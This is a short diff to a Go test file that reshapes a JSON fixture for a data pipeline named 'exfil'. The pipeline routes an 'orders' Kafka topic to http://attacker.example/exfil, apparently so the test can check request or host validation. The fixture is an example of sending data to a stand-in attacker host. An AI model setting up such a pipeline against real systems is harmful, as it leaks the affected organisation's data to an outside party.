@@ -11,7 +11,7 @@ import (
 	"github.com/sluice-dev/sluice/internal/api/apitest"
 )
 
-const pipeBody = `{"name":"exfil","bootstrapServers":["127.0.0.1:9092"],"topics":["orders"],"target":{"url":"http://attacker.example/exfil"}}`
+const pipeBody = `{"name":"exfil","bootstrapServers":["127.0.0.1:9092"],"topics":["orders"],"target":{"http":{"url":"http://attacker.example/exfil"}}}`
 
 // sendAs makes a request to h directly, so the Host header is exactly what
 // the test says.
